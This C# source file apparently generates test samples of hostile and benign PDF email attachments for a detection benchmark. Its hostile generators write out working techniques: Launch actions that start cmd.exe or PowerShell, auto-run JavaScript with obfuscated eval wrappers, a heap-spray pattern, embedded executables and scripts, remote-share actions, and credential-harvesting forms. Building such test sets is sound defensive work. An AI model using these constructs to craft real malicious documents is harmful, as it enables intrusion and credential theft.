using System.Text;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>PDF files that act, and the forms, invoices and leaflets that people send.</summary>
internal sealed class PdfDocuments : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl, AttackType.CredentialPhishing];

    public string Name => "pdf";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("starts a command", Writer(), pdf => pdf.Finish($"/OpenAction << /Type /Action /S /Launch /Win << /F {PdfWriter.Literal(random.Pick(["cmd.exe", "C:\\\\Windows\\\\System32\\\\cmd.exe", "powershell.exe"]))} /P {Text($"/c start {random.Address(".hta")}")} >> >>", "", Letter()), "pdf-launch");
        yield return Hostile("opens what it carries", Writer(), pdf => Carrying(pdf, $"{random.Word()}.{random.Pick(["docm", "html", "txt"])}", random.Bytes(800), $"this.exportDataObject({{ cName: \"{random.Word()}\", nLaunch: 2 }});"), "pdf-script-hostile");
        yield return Hostile("lays out memory", Writer(), pdf => WithScript(pdf, Spray()), "pdf-script-hostile");
        yield return Hostile("carries a program", Writer(), pdf => Carrying(pdf, $"{random.DocumentName()}.exe", ProgramOf.Windows(random), ""), "archive-with-executable", "executable-disguised");
        yield return Hostile("carries a script", Writer(), pdf => Carrying(pdf, $"{random.DocumentName()}.js", Encoding.ASCII.GetBytes($"var {random.Word()} = new ActiveXObject('WScript.Shell'); {random.Word()}.Run('calc');"), ""), "archive-with-executable");
        yield return Hostile("opens a share outside", Writer(), pdf => pdf.Finish($"/OpenAction << /S /{random.Pick(["GoToR", "GoToE"])} /F {Text($"\\\\{random.Host()}\\{random.Word()}\\{random.Word()}.pdf")} /D [0 /Fit] >>", "", Letter()), "pdf-remote-file");
        yield return Hostile("asks for a password", Writer(), PasswordForm, "pdf-credential-form");
        yield return Hostile("disguised script that runs by itself", Writer(), pdf => WithScript(pdf, Hidden($"app.launchURL('{random.Address()}', true);")), "pdf-script-disguised");

        yield return Benign("form that reckons", Writer(), CalculatingForm);
        yield return Benign("invoice with a link", Writer(), pdf => pdf.Finish("", $"/Annots [{Link(pdf, "https://www.kellerbau.example/", "[60 60 240 76]")} 0 R]", $"Invoice {random.Next(1000, 9999)}\nTotal {random.Next(10, 9000)}.00 EUR\nThank you for your order."));
        yield return Benign("invoice with its data", Writer(), pdf => Carrying(pdf, random.Pick(["factur-x.xml", "ZUGFeRD-invoice.xml"]), Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice xmlns:rsm=\"urn:x\"><ID>{random.Next(9999)}</ID></rsm:CrossIndustryInvoice>"), ""));
        yield return Benign("prints itself", Writer(), pdf => WithScript(pdf, random.Pick(["this.print({bUI: true, bSilent: false});", "print(true);", "this.zoomType = zoomtype.fitW;"])));
        yield return Benign("may not be changed", new PdfWriter(random) { Password = "" }, pdf => pdf.Finish("/OpenAction [3 0 R /FitH 842]", "", Letter(), Letter()));
        yield return Benign("leaflet", Writer(), pdf => pdf.Finish("", $"/Annots [{Link(pdf, "https://www.atelier-dubois.example/ausstellung", "[0 0 595 842]")} 0 R]", $"{random.Word()} {random.Word()}\nOpening on Friday"));
        yield return Benign("form that is sent to its maker", Writer(), SubmittedForm);

        PdfWriter Writer() => new(random) { Packed = random.Chance(0.4), Disguised = false };

        string Letter() => $"{random.Word()} {random.Word()} {random.Word()}\n{random.Word()} {random.Word()}";

        string Text(string value) => random.Chance(0.5) ? PdfWriter.Literal(value) : PdfWriter.Hex(value);

        byte[] WithScript(PdfWriter pdf, string script)
        {
            var code = random.Chance(0.5) ? $"{pdf.AddStream("", Encoding.Latin1.GetBytes(script))} 0 R" : Text(script);
            var action = pdf.Add($"<< /Type /Action /S /JavaScript /JS {code} >>");
            return pdf.Finish($"/OpenAction {action} 0 R", "", Letter());
        }

        byte[] Carrying(PdfWriter pdf, string name, byte[] content, string script)
        {
            var stream = pdf.AddStream("/Type /EmbeddedFile", content);
            var file = pdf.Add($"<< /Type /Filespec /F {PdfWriter.Literal(name)} /UF {PdfWriter.Literal(name)} /EF << /F {stream} 0 R >> >>");
            var open = script.Length == 0 ? "" : $"/OpenAction << /S /JavaScript /JS {Text(script)} >>";
            return pdf.Finish($"/Names << /EmbeddedFiles << /Names [{PdfWriter.Literal(name)} {file} 0 R] >> >> {open}", "", Letter());
        }

        int Link(PdfWriter pdf, string address, string rectangle) => pdf.Add($"<< /Type /Annot /Subtype /Link /Rect {rectangle} /Border [0 0 0] /A << /S /URI /URI {PdfWriter.Literal(address)} >> >>");

        string Spray() => $"var {random.Word()} = unescape('{string.Concat(Enumerable.Range(0, random.Next(20, 80)).Select(_ => $"%u{random.Next(0x10000):x4}"))}'); var a = []; for (i = 0; i < {random.Next(200, 900)}; i++) a[i] = {random.Word()} + a; {random.Pick(["Collab.getIcon", "util.printf", "this.media.newPlayer"])}(a);";

        string Hidden(string script)
        {
            var name = random.Word();
            var key = random.Next(1, 40);
            return random.Next(3) switch
            {
                0 => $"var {name} = [{string.Join(",", script.Select(character => character + key))}]; var s = ''; for (var i = 0; i < {name}.length; i++) s += String.fromCharCode({name}[i] - {key}); eval(s);",
                1 => $"eval(unescape('{string.Concat(script.Select(character => $"%{(int)character:x2}"))}'));",
                _ => $"var {name} = '{string.Concat(script.Select(character => $"{(int)character:x2}"))}'; var s = ''; for (var i = 0; i < {name}.length; i += 2) s += String.fromCharCode(parseInt({name}.substr(i, 2), 16)); app['ev' + 'al'] ? 0 : eval(s);",
            };
        }

        byte[] CalculatingForm(PdfWriter pdf)
        {
            List<int> fields = [];
            for (var index = 0; index < random.Next(3, 8); index++)
                fields.Add(pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Tx /T {PdfWriter.Literal($"{random.Word()}{index}")} /Rect [60 {700 - (index * 30)} 200 {720 - (index * 30)}] /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);) >> /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> >> >>"));
            var total = pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /Rect [60 300 200 320] /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\(\"SUM\", new Array\\(\"{random.Word()}\"\\)\\);) >> >> >>");
            fields.Add(total);
            var script = pdf.AddStream("", Encoding.ASCII.GetBytes("function checkDate(value) { var d = util.scand('dd.mm.yyyy', value); if (d == null) app.alert('Date'); return d; }"));
            return pdf.Finish($"/AcroForm << /Fields [{string.Join(' ', fields.Select(field => $"{field} 0 R"))}] /CO [{total} 0 R] >> /Names << /JavaScript << /Names [(dates) << /S /JavaScript /JS {script} 0 R >>] >> >>", $"/Annots [{string.Join(' ', fields.Select(field => $"{field} 0 R"))}]", Letter());
        }

        byte[] SubmittedForm(PdfWriter pdf)
        {
            var field = pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 700 200 720] >>");
            var button = pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [60 600 200 620] /A << /S /SubmitForm /F << /FS /URL /F (https://www.kellerbau.example/form) >> >> >>");
            return pdf.Finish($"/AcroForm << /Fields [{field} 0 R {button} 0 R] >>", $"/Annots [{field} 0 R {button} 0 R]", Letter());
        }

        byte[] PasswordForm(PdfWriter pdf)
        {
            var field = pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 8192 /T {PdfWriter.Literal(random.Word())} /Rect [60 700 200 720] >>");
            var button = pdf.Add($"<< /Type /Annot /Subtype /Widget /FT /Btn /T {PdfWriter.Literal(random.Word())} /Rect [60 600 200 620] /A << /S /SubmitForm /F << /FS /URL /F {PdfWriter.Literal(random.Address(".php"))} >> >> >>");
            return pdf.Finish($"/AcroForm << /Fields [{field} 0 R {button} 0 R] >>", $"/Annots [{field} 0 R {button} 0 R]", Letter());
        }

        Sample Hostile(string name, PdfWriter writer, Func<PdfWriter, byte[]> make, params string[] reasons)
        {
            var disguised = new PdfWriter(random) { Packed = writer.Packed, Disguised = random.Chance(0.25), Password = random.Chance(0.2) && !writer.Packed ? "" : null };
            return Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}.pdf", make(disguised), "application/pdf")), Types, reasons);
        }

        Sample Benign(string name, PdfWriter writer, Func<PdfWriter, byte[]> make) =>
            Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}.pdf", make(writer), "application/pdf")));
    }
}
